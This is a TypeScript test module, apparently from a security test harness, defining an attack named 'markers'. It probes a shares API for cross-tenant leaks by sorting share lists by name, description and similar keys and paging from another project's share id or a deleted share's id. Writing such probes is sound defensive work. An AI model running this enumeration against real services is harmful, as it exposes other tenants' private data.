import type { Attack } from '../attack.ts'
import type { ApiWorld } from './world.ts'

/** What lies behind a row tells what the row holds: a name is read letter by letter. */
export const markers: Attack<ApiWorld> = {
  name: 'markers',
  tries:
    "reads the name and description of another project's share, and of a deleted one, by paging behind it in lists that are sorted by them",
  async run({ ask, share, secret }) {
    for (const name of ['a probe', 'z probe']) await share('attacker', { name, description: name })
    const gone = await share('victim', { name: 'm buried', is_public: false })
    await ask(`/v2/shares/${gone}`, { as: 'victim', method: 'DELETE' })
    await until(async () => (await ask(`/v2/shares/${gone}`, { as: 'victim' })).status === 404)
    const told: string[] = []
    const statuses = new Set<number>()
    let tried = 0
    for (const marker of [secret.id, gone])
      for (const list of ['/v2/shares', '/v2/shares/detail'])
        for (const visible of ['is_public=true', 'is_public=false', 'all_tenants=1', ''])
          for (const key of ['name', 'description', 'created_at', 'host']) {
            const query = `${visible}&sort_key=${key}&sort_dir=asc&marker=${marker}`
            const { status, json } = await ask(`${list}?${query}`)
            tried += 1
            statuses.add(status)
            if (status === 200) told.push(`${query}: ${json.shares.length} rows behind it`)
          }
    return { through: told.length > 0, tried: `${tried} lists`, cameBack: told[0] ?? [...statuses].join(' ') }
  },
}

async function until(done: () => Promise<boolean>): Promise<void> {
  const end = performance.now() + 30_000
  while (!(await done())) {
    if (performance.now() > end) throw new Error('the share is not deleted')
    await new Promise((resolve) => setTimeout(resolve, 20))
  }
}
